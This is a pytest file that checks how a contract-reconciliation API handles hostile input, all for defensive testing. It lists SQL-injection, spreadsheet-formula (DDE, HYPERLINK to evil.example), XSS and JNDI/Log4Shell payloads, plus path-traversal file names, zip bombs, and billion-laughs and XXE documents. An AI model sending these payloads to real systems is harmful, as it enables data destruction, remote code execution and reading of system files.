"""Hostile input over HTTP (issue 9 §2), beyond the conventions already covered in tests/api/test_conventions.py
(oversized bodies, deep JSON, NUL bytes, invalid UTF-8) and the schemathesis sweep:

* SQL and spreadsheet-formula payloads in every free-text field are stored verbatim, come back verbatim, are exported
  verbatim in the golden record JSON, and every CSV cell of the audit export that would start a formula is neutralised.
* Hostile documents through the upload routes — zip bombs, entity expansion, too many pages, encryption, garbage — get
  a 4xx with a clear message and write nothing; file names with path components are reduced to their base name.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import aiosql
import psycopg
import pytest
from litestar.testing import AsyncTestClient
from psycopg.rows import dict_row

from tests.api.documents import markup_docx
from tests.recon.builders import blank_pdf, document_xml, docx_with_document_xml, pdf, zip_bytes
from tests.recon.test_hostile import BILLION_LAUGHS, EXTERNAL_ENTITY

pytestmark = pytest.mark.anyio

Q: Any = aiosql.from_path(Path(__file__).resolve().parents[1] / "sql" / "seed_checks.sql", "psycopg")
Client = AsyncTestClient[Any]
Conn = psycopg.Connection[dict[str, Any]]
SARAH = "sarah.chen@bankco.com"
PAYLOADS = (
    "'; DROP TABLE clauses; --",
    '=HYPERLINK("http://evil.example","click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "Robert'); DELETE FROM users; --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "％00 ‮ RTL 😀",
)
FORMULA = ("=", "+", "-", "@", "\t", "\r")
WATCHED = ("workspaces", "clauses", "reconciliation_sessions", "reconciliation_items", "audit_events")


@pytest.fixture
def db(seeded_db_url: str) -> Iterator[Conn]:
    with psycopg.connect(seeded_db_url, autocommit=True, row_factory=dict_row) as conn:
        yield conn


async def login(api: Client) -> dict[str, str]:
    resp = await api.post("/api/v1/auth/login", json={"email": SARAH, "password": "Password123"})
    return {"Authorization": f"Bearer {resp.json()['data']['accessToken']}"}


def ok(resp: Any, status: int = 200) -> Any:
    assert resp.status_code == status, resp.text
    return resp.json()


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_payloads_are_stored_verbatim_and_exported_safely(demo_api: Client, payload: str) -> None:
    sarah = await login(demo_api)
    text = payload + " x"  # a trailing word keeps leading/trailing whitespace rules out of the way
    ws = ok(
        await demo_api.post(
            "/api/v1/workspaces",
            headers=sarah,
            json={"name": text, "currency": "EUR", "amount": 10, "standard": text, "basePdfName": text},
        ),
        201,
    )["workspace"]
    assert (ws["name"], ws["standard"], ws["basePdfName"]) == (text, text, text)
    wid = ws["id"]
    clause = ok(
        await demo_api.post(
            f"/api/v1/workspaces/{wid}/clauses", headers=sarah, json={"title": text, "body": text, "type": "general"}
        ),
        201,
    )["clause"]
    assert (clause["title"], clause["body"]) == (text, text)
    variable = ok(
        await demo_api.post(
            f"/api/v1/workspaces/{wid}/variables",
            headers=sarah,
            json={"clauseId": clause["id"], "label": text, "type": "definition", "value": text, "unit": text},
        ),
        201,
    )["variable"]
    assert (variable["label"], variable["value"], variable["unit"]) == (text, text, text)
    edited = await demo_api.patch(
        f"/api/v1/drafts/variables/{variable['id']}",
        headers=sarah,
        json={"value": text + " v2", "reason": text, "reasonCategory": "other"},
    )
    ok(edited)
    covenant = ok(
        await demo_api.post(
            f"/api/v1/golden-records/{wid}/covenants",
            headers=sarah,
            json={
                "name": text,
                "testFrequency": text,
                "threshold": text,
                "calculationBasis": text,
                "clauseId": clause["id"],
            },
        ),
        201,
    )["covenant"]
    assert (covenant["name"], covenant["testFrequency"], covenant["calculationBasis"]) == (text, text, text)

    exported = ok(await demo_api.post(f"/api/v1/golden-records/{wid}/export", headers=sarah))
    document = json.loads(exported["schemaJson"])
    assert document["workspace"]["name"] == text and document["clauses"][0]["title"] == text
    assert document["covenants"][0]["name"] == text and document["variables"][0]["value"] == text + " v2"

    export = await demo_api.get("/api/v1/audit/export", headers=sarah, params={"workspaceId": wid, "format": "csv"})
    assert export.status_code == 200, export.text
    rows = list(csv.reader(io.StringIO(export.text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(text in cell for cell in cells)  # the payload is in the trail
    dangerous = [cell for cell in cells if cell.startswith(FORMULA)]
    assert dangerous == [], dangerous[:3]
    if payload.startswith(FORMULA):
        assert "'" + text in cells or any(c.startswith("'" + payload[:1]) for c in cells)


HOSTILE_DOCS = {
    "zip bomb": (
        "bomb.docx",
        lambda: zip_bytes(
            {
                "[Content_Types].xml": b"<Types/>",
                "word/document.xml": document_xml("") + b" " * (100 * 1024 * 1024 + 1),
            }
        ),
        "Document too large to process",
    ),
    "many entries": (
        "many.docx",
        lambda: zip_bytes(
            {"[Content_Types].xml": b"<Types/>", "word/document.xml": document_xml("")}
            | {f"word/media/{i}.bin": b"" for i in range(1001)}
        ),
        "Document too large to process",
    ),
    "billion laughs": ("laughs.docx", lambda: docx_with_document_xml(BILLION_LAUGHS), "Could not read document"),
    "external entity": ("xxe.docx", lambda: docx_with_document_xml(EXTERNAL_ENTITY), "Could not read document"),
    "encrypted pdf": (
        "secret.pdf",
        lambda: pdf(["1. Definitions", "Text"], encrypt_with="pw"),
        "Could not read document",
    ),
    "2,001 pages": ("long.pdf", lambda: blank_pdf(2001), "Document too large to process"),
    "truncated pdf": ("cut.pdf", lambda: pdf(["1. Definitions", "Text"])[:400], "Could not read document"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_DOCS))
async def test_hostile_documents_are_refused_cleanly_and_write_nothing(demo_api: Client, db: Conn, case: str) -> None:
    name, build, message = HOSTILE_DOCS[case]
    sarah = await login(demo_api)
    before = Q.table_fingerprints(db)
    resp = await demo_api.post(
        "/api/v1/reconciliations/upload",
        headers=sarah,
        files={"document": (name, build(), "application/octet-stream")},
        data={"workspaceId": "ws-001"},
    )
    assert resp.status_code == 400, resp.text
    assert resp.json()["error"]["message"].startswith(message), resp.text
    after = Q.table_fingerprints(db)
    assert {t: after[t] for t in WATCHED} == {t: before[t] for t in WATCHED}


@pytest.mark.parametrize(
    ("sent", "stored"),
    [
        ("../../../../etc/passwd.docx", "passwd.docx"),
        ("..\\..\\Windows\\System32\\markup.docx", "markup.docx"),
        ("/abs/path/Markup v3.DOCX", "Markup v3.DOCX"),
    ],
)
async def test_file_names_lose_their_path(demo_api: Client, sent: str, stored: str) -> None:
    sarah = await login(demo_api)
    doc = markup_docx([[("", "3. Interest")], [("", "shall be "), ("del", "275"), ("ins", "300"), ("", " basis")]])
    resp = await demo_api.post(
        "/api/v1/reconciliations/upload",
        headers=sarah,
        files={"document": (sent, doc, "application/octet-stream")},
        data={"workspaceId": "ws-001"},
    )
    assert ok(resp, 201)["session"]["fileName"] == stored
